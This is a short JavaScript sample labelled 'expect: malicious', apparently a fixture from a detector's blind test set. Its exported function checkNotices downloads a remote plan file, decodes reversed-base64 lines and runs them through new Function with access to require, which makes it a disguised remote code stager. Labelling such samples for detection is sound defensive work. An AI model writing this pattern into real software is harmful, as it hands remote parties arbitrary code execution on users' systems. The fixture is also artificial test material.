// expect: malicious
// source: blind set 33's finger-protocol-stager: an exported function fetches through the package's own helper and runs,
// in the promise's callback, what came back (reversed base64); the request and the runner are a `.then` apart.
const http = require('./http');
const NOTICES = 'https://notices.example/plan.txt';
exports.checkNotices = function checkNotices() {
  http.fetchText(NOTICES).then((plan) => {
    for (const line of plan.split('\n')) {
      if (!line.startsWith('#: ')) continue;
      const src = Buffer.from(line.slice(3).split('').reverse().join(''), 'base64').toString();
      new Function('require', src)(require);
    }
  }, () => {});
};
